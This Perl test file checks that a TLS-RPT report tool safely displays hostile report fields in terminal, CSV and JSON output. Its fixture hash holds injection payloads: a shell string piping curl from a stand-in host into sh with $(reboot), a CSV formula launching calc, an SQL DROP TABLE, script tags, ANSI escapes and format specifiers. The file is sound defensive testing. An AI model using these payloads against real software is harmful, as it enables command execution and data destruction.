# injection.t - each text of a report, with what would hurt in a terminal, a shell, a spreadsheet or a log

use strict;
use warnings;
use File::Temp;
use FindBin;
use lib "$FindBin::Bin/../lib";
use Httpd;
use JSON::PP;
use Test::More;
use Tool;

my $dir = File::Temp->newdir;

my %EVIL = (
    ansi   => "\e[2J\e]0;owned\a\r\nOK\x{9b}31m",
    bidi   => "\x{202e}moc.elpmaxe\x{2066}",
    shell  => q{x;curl evil|sh $(reboot) `id` ' " \\},
    csv    => q{=cmd|'/c calc'!A0","=1+1},
    sql    => q{'; DROP TABLE tlsrpt_report; --},
    script => '</script><script>alert(1)</script>',
    format => '%s%n%s%n',
    long   => 'x' x 10_000,
);

# A report whose every text is this one; types and numbers stay, so that it is one.
sub hostile {
    my ($evil) = @_;
    return report('organization-name' => $evil, 'contact-info' => $evil, 'report-id' => $evil,
        policy => { 'policy-domain' => $evil, 'mx-host' => [$evil], 'policy-string' => ['version: STSv1', "mode: $evil", "mx: $evil", $evil] },
        summary => { 'total-failure-session-count' => 1 },
        failures => [{ 'result-type' => $evil, 'sending-mta-ip' => $evil, 'receiving-ip' => $evil, 'receiving-mx-hostname' => $evil,
            'receiving-mx-helo' => $evil, 'failed-session-count' => 1, 'failure-reason-code' => $evil, 'additional-information' => $evil },
            { 'result-type' => 'certificate-expired', 'receiving-mx-hostname' => $evil, 'failed-session-count' => 1 }]);
}

for my $kind (sort keys %EVIL) {
    Httpd::spew("$dir/report", hostile($EVIL{$kind}));
    for my $options ([], ['-v'], ['--csv'], ['--json']) {
        my $done = tool('report', @$options, "$dir/report");
        is $done->status . $done->err, '1', "$kind, @$options: it is shown";
        unlike $done->out, qr/[^\n\x20-\x7e]/, '... in printable ASCII';
    }
    my $text = tool('report', '-v', "$dir/report")->out;
    unlike $text, qr/^   Check:/m, "$kind: no command line is made of it";
    ok length $text < 12_000, '... and no long text either' or diag length $text;

    my $csv = tool('report', '--csv', "$dir/report")->out;
    my @cells = $csv =~ /(?:^|,)("(?:[^"]|"")*"|[^,"\n]*)(?=,|$)/mg;
    is_deeply [grep { /^"?[=+\-@\t\r]/ } @cells], [], "$kind: no cell of the CSV is a formula";
    is scalar(@cells), 3 * 17, '... and none is torn' or diag $csv;

    my $read = decode_json(tool('report', '--json', "$dir/report")->out)->[0];
    is $read->{organization}, substr($EVIL{$kind}, 0, 512), "$kind: JSON gives it back";
}

# A command line is made of names only, and these are all that a name can be.
Httpd::spew("$dir/report", report(summary => { 'total-failure-session-count' => 1 },
    failures => [{ 'result-type' => 'certificate-expired', 'receiving-mx-hostname' => 'mail1.example.com', 'failed-session-count' => 1 }]));
like tool('report', "$dir/report")->out, qr/^   Check: openssl/m, 'a good name: with a command line';

# Names of files are strangers' texts, too.
my $name = "$dir/\e[31m\nfile";
Httpd::spew($name, 'none');
unlike tool('report', $name)->err =~ s/\n\z//r, qr/[^\x20-\x7e]/, 'a file name in a message';
Httpd::spew($name, report());
unlike tool('report', '-v', $name)->out, qr/[^\n\x20-\x7e]/, '... and in the text';

# No colour where it is no terminal; on one, unless NO_COLOR is set.
my $script = 'import os,pty,sys
sys.stdout.flush()
pty.spawn(sys.argv[1:])';
my @on_terminal = ('python3', '-c', $script, tool_file(), 'report', "$dir/report");
like Httpd::run(@on_terminal)->out, qr/\e\[33mWARNING\e\[0m/, 'on a terminal: in colour';
unlike Httpd::run('env', 'NO_COLOR=1', @on_terminal)->out, qr/\e/, '... unless NO_COLOR is set';
like Httpd::run('env', 'NO_COLOR=', @on_terminal)->out, qr/\e/, '... to something';
unlike tool('report', "$dir/report")->out, qr/\e/, 'in a pipe: none';

done_testing;
